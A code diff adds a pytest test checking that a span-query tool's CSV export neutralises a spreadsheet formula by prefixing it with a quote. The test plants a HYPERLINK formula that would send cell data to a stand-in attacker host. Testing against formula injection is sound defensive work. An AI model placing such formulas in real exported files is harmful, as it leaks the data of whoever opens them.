@@ -116,6 +116,28 @@ def test_otel_rl_sql_prints_each_format_from_a_file(closed_db, output_format) ->
         assert "span 0" in result.output and "[1, 2]" in result.output and "2 row(s)" in result.output
 
 
+def test_otel_rl_sql_csv_writes_a_harness_s_formula_as_text(tmp_path) -> None:
+    db = tmp_path / "formula.duckdb"
+    request, _ = spans_request(1)
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
+    request.resource_spans[0].resource.attributes.add(key="service.name").value.string_value = formula
+    with Store(db) as store:
+        ingest_traces(store, request)
+    sql = "SELECT resource_attributes->>'service.name' AS service, -1.5 AS delta, name FROM spans"
+    args = [str(OTEL_RL), "sql", sql, "--db", str(db), "--format", "csv"]
+
+    printed = subprocess.run(args, capture_output=True, text=True, timeout=60)
+    written = subprocess.run([*args, "-o", str(tmp_path / "out.csv")], capture_output=True, timeout=60)
+
+    assert printed.returncode == 0 and written.returncode == 0, printed.stderr
+    expected = [
+        "service,delta,name",
+        '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")",-1.5,span 0',
+    ]
+    assert printed.stdout.splitlines() == expected
+    assert (tmp_path / "out.csv").read_text().splitlines() == expected
+
+
 def test_otel_rl_sql_writes_parquet_to_a_file(closed_db, tmp_path) -> None:
     db, _ = closed_db
     out = tmp_path / "spans.parquet"
